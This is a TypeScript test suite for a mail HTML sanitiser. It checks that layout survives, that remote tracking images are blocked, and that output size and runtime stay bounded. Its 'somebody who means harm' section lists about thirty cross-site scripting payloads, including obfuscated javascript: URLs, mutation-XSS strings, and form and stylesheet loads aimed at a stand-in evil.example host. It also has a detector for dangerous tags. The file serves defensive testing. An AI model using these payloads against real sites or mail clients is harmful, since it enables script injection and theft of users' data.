import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from '../../shared/mail/sanitise-html.ts';
import { expectLinear } from '../support/expect-linear.ts';

const PICTURES = new Map([
  ['logo@acme', '/v1/logo'],
  ['a', '/v1/a'],
]);

const shown = (html: string) => sanitiseHtml(html, PICTURES).html;

describe('HTML of a mail', () => {
  test('keeps what it says and how it is laid out', () => {
    const written = '<p dir="ltr">Hello <b>Tom</b>,</p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table>';
    expect(shown(written)).toBe(written);
  });

  test('keeps colours and weights, and no style that could cover the page or fetch something', () => {
    const written = '<p style="color:#c00;position:fixed;background-image:url(https://evil.example/a);font-weight:bold">x</p>';
    expect(shown(written)).toBe('<p style="color:#c00;font-weight:bold">x</p>');
  });

  test('opens links in a page of their own that learns nothing', () => {
    expect(shown('<a href="https://acme.example/a?b=1&amp;c=2" onclick="x()">a</a>')).toBe(
      '<a href="https://acme.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
  });

  test('keeps the pictures that it brought along, and counts those from elsewhere', () => {
    const written =
      '<img src="cid:logo@acme" alt="Logo"><img src="https://track.example/1.gif"><img src="//track.example/2.gif"><img src="data:image/png;base64,AA==">';
    expect(sanitiseHtml(written, PICTURES)).toEqual({ html: '<img src="/v1/logo" alt="Logo" />', blockedImages: 3 });
  });

  test('keeps no picture that it did not bring along, however it is referred to', () => {
    const written =
      '<img src="cid:other@acme"><img src="cid:"><img src="cid:%"><img src="/v1/logo"><img><img src="CID:logo%40acme">';
    expect(sanitiseHtml(written, PICTURES)).toEqual({ html: '<img src="/v1/logo" />', blockedImages: 1 });
  });

  test('is cut where it nests deeper than any mail program does', () => {
    const { html } = sanitiseHtml('<div>'.repeat(5_000), PICTURES);
    expect(html.length).toBeLessThan(5_000);
  });
});

describe('HTML that is longer than anybody reads', () => {
  test.each([
    ['tags', '<b>x', 40_000],
    ['tags that end', '<i>x</i>', 20_000],
    ['text', 'x'.repeat(100), 5_000],
  ])('is cut: of %s', (_, piece, most) => {
    const words = (html: string) => html.replace(/<[^>]*>/g, '').length;
    expect(words(shown(piece.repeat(most * 2)))).toBe(words(shown(piece.repeat(most))));
    expect(words(shown(piece.repeat(most)))).toBe(words(piece.repeat(most)));
  });

  test.each(['<b>x', '<ul><li>', '<p style="{{{{">', '<svg><style>'])('takes time in proportion to its length: %s', (piece) =>
    expectLinear((times) => shown(piece.repeat(times * 16_000))),
  );
});

describe('HTML of somebody who means harm', () => {
  test.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src="cid:a"/onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<style>@import url(https://evil.example/a.css)</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
    '<video src="https://evil.example/a" poster="javascript:alert(1)"></video><audio src="https://evil.example/a"></audio>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<p id="location" name="cookie" class="pledge-button">x</p>',
    '<template><script>alert(1)</script></template>',
    '<dialog open oncancel=alert(1)>x</dialog>',
  ])('runs, sends and fetches nothing: %s', (written) => {
    expect(dangersOf(shown(written))).toEqual([]);
  });

  test('does so whatever is put together', () => {
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      'script',
      'img',
      'svg',
      'style',
      'a href',
      'onerror',
      'javascript:',
      'src',
      '<!--',
      '-->',
      '&#x3c;',
      'x',
      '<p ',
      '</p>',
      '<style>',
      '<math>',
      'url(',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
        expect(dangersOf(shown(parts.join('')))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

const SAFE_ATTRIBUTE =
  /^(?:href|title|rel|target|src|alt|width|height|align|valign|color|size|face|start|type|colspan|rowspan|dir|lang|style)$/;

/** Tags and attributes that a browser would act on, read as a browser reads them: what is left has no text that looks like a tag. */
function dangersOf(html: string): readonly string[] {
  return [...html.matchAll(/<([^>]*)>/g)].flatMap(([, inside = '']) => {
    const [, tag = ''] = /^\/?([a-z0-9]+)/i.exec(inside) ?? [];
    const attributes = [...inside.matchAll(/\s([^\s=/>"']+)(?:="([^"]*)")?/g)];
    const wrong = attributes.flatMap(([, name = '', value = '']) => {
      const isFetched = name === 'src' && !value.startsWith('/v1/');
      const isRun = name === 'href' && !/^(?:https?:|mailto:|tel:|[^:]*$)/i.test(value);
      const isStyled = name === 'style' && /url|expression|import|position/i.test(value);
      return !SAFE_ATTRIBUTE.test(name) || isFetched || isRun || isStyled ? [`${name}=${value}`] : [];
    });
    const isBad =
      /^(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|video|audio|template|textarea|noscript|dialog)$/i;
    return [...(isBad.test(tag) ? [tag] : []), ...wrong];
  });
}
